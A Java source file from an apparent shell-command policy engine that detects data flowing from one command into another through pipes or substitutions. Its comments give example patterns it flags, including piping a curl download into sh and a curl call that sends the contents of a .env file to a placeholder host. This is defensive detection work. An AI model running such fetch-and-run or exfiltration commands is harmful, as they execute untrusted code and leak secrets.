package dev.hotplex.policy;

import dev.hotplex.policy.CallContext.Resolved;
import dev.hotplex.policy.CallContext.Step;
import dev.hotplex.policy.PathEffect.Access;
import dev.hotplex.policy.PolicySpec.FlowSpec;
import dev.hotplex.policy.shell.Invocation;
import dev.hotplex.policy.shell.Pipeline;
import java.util.ArrayList;
import java.util.List;

/**
 * A compiled {@code pipeline} or {@code substitution} condition: data produced by a {@code from} command reaches a
 * {@code to} command, through a pipe ({@code curl x | sh}) or a substitution ({@code sh -c "$(curl x)"},
 * {@code bash <(curl x)}, {@code curl "https://x/?k=$(cat .env)"}).
 */
record Flow(Glob.NameSet from, boolean fromFileReader, Glob.NameSet to, boolean toStdinScript) {
  /** In {@code to}: any shell or interpreter that reads its program from stdin. */
  static final String STDIN_SCRIPT = "@stdin-script";
  /** In {@code from}: any command that reads a file ({@code cat .env}, {@code $(< .env)}, {@code jq . x.json}). */
  static final String FILE_READER = "@reads-file";

  static Flow compile(FlowSpec spec, String pointer) {
    if (spec == null) {
      return null;
    }
    if (spec.from() == null || spec.to() == null) {
      throw new SpecError(pointer, "needs both 'from' and 'to' command lists");
    }
    List<String> from = new ArrayList<>(spec.from());
    boolean fileReader = from.remove(FILE_READER);
    List<String> to = new ArrayList<>(spec.to());
    boolean stdin = to.remove(STDIN_SCRIPT);
    return new Flow(RuleMatcher.names(from, pointer + "/from"), fileReader, RuleMatcher.names(to, pointer + "/to"),
        stdin);
  }

  /** Evidence that a pipeline stage running {@code from} feeds a later stage running {@code to}, or null. */
  String throughPipe(CallContext ctx) {
    if (ctx.analysis == null) {
      return null;
    }
    for (Pipeline p : ctx.analysis.pipelines()) {
      List<Invocation> stages = p.stages();
      for (int i = 0; i < stages.size(); i++) {
        if (!from.contains(stages.get(i).commandName())) {
          continue;
        }
        for (int j = i + 1; j < stages.size(); j++) {
          if (reaches(stages.get(j))) {
            return stages.get(i).commandName() + " | " + name(stages.get(j));
          }
        }
      }
    }
    return null;
  }

  /** Evidence that {@code from} runs in a substitution of a command line that also runs {@code to}, or null. */
  String throughSubstitution(CallContext ctx) {
    if (ctx.analysis == null) {
      return null;
    }
    for (Step inner : ctx.steps) {
      if (!inner.invocation.inSubstitution() || !produces(inner)) {
        continue;
      }
      for (Invocation outer : ctx.analysis.invocations()) {
        if (outer != inner.invocation && reaches(outer)) {
          return name(outer) + " ... $(" + inner.text() + ")";
        }
      }
    }
    return null;
  }

  private boolean produces(Step step) {
    if (from.contains(step.name)) {
      return true;
    }
    if (fromFileReader) {
      for (Resolved effect : step.effects()) {
        if (effect.access() == Access.READ && !effect.effect().heuristic()) {
          return true;
        }
      }
    }
    return false;
  }

  private boolean reaches(Invocation target) {
    return (toStdinScript && target.readsScriptFromStdin()) || to.contains(target.commandName());
  }

  private static String name(Invocation invocation) {
    return invocation.commandName() == null ? "<dynamic command>" : invocation.commandName();
  }
}
